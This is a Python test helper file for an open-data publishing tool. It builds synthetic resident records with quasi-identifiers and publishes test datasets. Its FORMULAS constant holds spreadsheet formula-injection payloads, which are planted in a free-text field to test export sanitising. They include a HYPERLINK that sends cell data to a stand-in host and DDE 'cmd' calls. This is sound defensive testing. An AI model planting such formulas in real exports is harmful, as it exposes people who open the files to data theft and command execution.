"""Open-data test helpers: stored frames as the publisher reads them, a person-level contract
with quasi-identifiers, and published versions on a real store."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import numpy as np
import pandas as pd
import pytest

from jinshu.catalog import Contract, load_catalog
from jinshu.dev.generate import generate_frame, render_extract
from jinshu.open import package, product, publisher, site
from jinshu.settings import DEFAULT_CATALOG_DIR
from jinshu.store.engine import engine_for
from jinshu.store.objects import ObjectStore, open_store
from tests.helpers import ingest_file, make_settings

CATALOG = load_catalog(DEFAULT_CATALOG_DIR)
OPEN = [c.id for c in CATALOG.values() if c.is_open]
ACQUIRED_AT = "2025-03-04 10:30:00+00"
T0 = datetime(2026, 11, 2, 8, 0, tzinfo=UTC)
PUBLIC_URL = "https://data.example.gov.cn/open"
RAW_ID = "140105199803071232"  # a valid resident ID: address code, birth date, check digit
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
LAW = {"law": "测试条例 第一条"}


def stored(contract: Contract, rows: int = 60, seed: int = 11) -> pd.DataFrame:
    """A generated frame as the publisher reads it from the store: every column as text
    (missing as NaN), lineage columns included."""
    frame = generate_frame(contract, rows, seed=seed)
    frame = frame.mask(frame == "")
    frame["_acquired_at"] = ACQUIRED_AT
    frame["_subject_key"] = [f"pseudonym-{seed}-{i}" for i in range(len(frame))]
    frame["_record_hash"] = [f"hash-{seed}-{i}" for i in range(len(frame))]
    return frame.astype("str")


def built(frame: pd.DataFrame, contract: Contract) -> product.Product:
    return product.build(product.typed(frame, contract), contract)


def people_contract(k: int = 5, max_suppression: float = 0.05) -> Contract:
    """A person-level open dataset whose quasi-identifiers climb their hierarchies."""
    return Contract.model_validate({
        "id": "residents", "title": "测试居民", "description": "测试用的居民明细",
        "department": {"code": "sx_test", "name": "测试厅"},
        "subject": "person", "subject_key": "id_number", "natural_key": ["id_number"],
        "update_cycle": "monthly", "sharing": {"class": "conditional", "condition": "测试"},
        "open": {"class": "open", "licence": "CC-BY-4.0", "theme": "SOCI", "k": k,
                 "max_suppression": max_suppression,
                 "quasi_identifiers": [
                     {"field": "birth_date", "levels": ["year", "decade"]},
                     {"field": "sex"},
                     {"field": "age", "levels": ["band5", "band10", "band20"]},
                     {"field": "address", "levels": ["district", "city", "province_name"]},
                     {"field": "county_code", "levels": ["county", "prefecture", "province"]}]},
        "fields": [
            {"name": "id_number", "title": "公民身份号码", "format": "cn_ric",
             "sensitivity": "sensitive_personal", "basis": LAW},
            {"name": "name", "title": "姓名", "sensitivity": "personal", "mask": "name", "basis": LAW},
            {"name": "phone", "title": "手机号码", "format": "mobile", "sensitivity": "personal",
             "basis": LAW},
            {"name": "sex", "title": "性别", "description": "性别代码", "values": {"1": "男", "2": "女"},
             "sensitivity": "personal", "basis": LAW},
            {"name": "birth_date", "title": "出生日期", "description": "出生日期", "type": "date",
             "sensitivity": "personal", "basis": LAW},
            {"name": "age", "title": "年龄", "description": "周岁", "type": "integer",
             "sensitivity": "personal", "basis": LAW},
            {"name": "address", "title": "住址", "description": "住址", "sensitivity": "personal",
             "mask": "address", "basis": LAW},
            {"name": "county_code", "title": "行政区划代码", "description": "县级代码",
             "format": "gb2260_shanxi", "sensitivity": "public", "basis": LAW},
            {"name": "note", "title": "备注", "description": "自由文本", "sensitivity": "public",
             "basis": LAW},
        ],
    })


def people(rows: int = 600, seed: int = 5) -> pd.DataFrame:
    """Residents of a few counties, as stored text; ages agree with birth dates."""
    household = CATALOG["household_registration"]
    frame = generate_frame(household, rows, seed=seed)
    rng = np.random.default_rng(seed)
    counties = np.array(["140105", "140106", "140107", "140121", "140202", "140302"])
    county = counties[rng.integers(0, len(counties), rows)]
    frame["county_code"] = county
    frame["address"] = [f"{_full(c)}迎泽大街{n}号" for c, n in zip(county, rng.integers(1, 300, rows),
                                                                   strict=True)]
    born = pd.to_datetime(frame["birth_date"])
    frame["age"] = (2026 - born.dt.year).astype(str)
    frame["phone"] = [f"139{n:08d}" for n in rng.integers(0, 10**8, rows)]
    frame["note"] = "无"
    frame["_acquired_at"] = ACQUIRED_AT
    frame["_subject_key"] = [f"pseudonym-{i}" for i in range(rows)]
    frame["_record_hash"] = [f"hash-{i}" for i in range(rows)]
    return frame[[f.name for f in people_contract().fields] + ["_acquired_at", "_subject_key",
                                                               "_record_hash"]].astype("str")


def _full(code: str) -> str:
    from jinshu.vocab.divisions import full_name

    return full_name(code) or ""


# --- published versions on a real store ------------------------------------------------------


def ingest(settings, contracts, dataset: str, name: str, seed: int, rows: int = 20,
           edit=None) -> pd.DataFrame:
    contract = contracts[dataset]
    frame = generate_frame(contract, rows, seed=seed)
    if edit is not None:
        edit(frame)
    ingest_file(settings, contracts, contract, name, render_extract(contract, frame, seed=seed)[1])
    return frame


def publish_all(settings, contracts, at: datetime = T0, store: ObjectStore | None = None) -> ObjectStore:
    """Every open dataset published in order, then the catalog, at ``PUBLIC_URL``."""
    engine = engine_for(settings.store_url)
    store = store or open_store(settings.open_data_url, settings.s3_endpoint_url)
    for contract in publisher.publication_order(list(contracts.values())):
        publisher.publish(engine, store, contract, at, public_url=PUBLIC_URL)
    publisher.write_catalog(store, list(contracts.values()), at + timedelta(minutes=1), PUBLIC_URL)
    return store


def version_files(store: ObjectStore, dataset: str) -> dict[str, bytes]:
    """The files of the dataset's current version (by its ``latest`` pointer)."""
    latest = site.pointer(store, dataset)
    return {o.key.rsplit("/", 1)[1]: store.read(o.key) for o in store.list(latest["path"])}


def _everything(settings, contracts):
    def plant(frame: pd.DataFrame) -> None:  # (a bare CR would not survive ingest's CSV reading)
        for i, formula in enumerate(f for f in FORMULAS if "\r" not in f):
            frame.loc[i, "service_hours"] = formula

    ingest(settings, contracts, "vaccination_sites", "a.csv", seed=1, edit=plant)
    ingest(settings, contracts, "minimum_living_allowance", "a.csv", seed=1, rows=120)
    ingest(settings, contracts, "enterprise_registration", "a.csv", seed=1)
    return publish_all(settings, contracts)


def data_names(dataset: str) -> list[str]:
    return [package.data_file(dataset, fmt) for fmt in package.FORMATS]


@pytest.fixture
def everything(settings, contracts):
    """Every open dataset ingested once (vaccination sites with formulas planted in free text)
    and published, on SQLite and on PostgreSQL."""
    return _everything(settings, contracts)


@pytest.fixture(scope="module")
def published(tmp_path_factory, contracts):
    """The same on the embedded defaults, once per module: (settings, open-data store)."""
    settings = make_settings(tmp_path_factory.mktemp("published") / "home")
    return settings, _everything(settings, contracts)
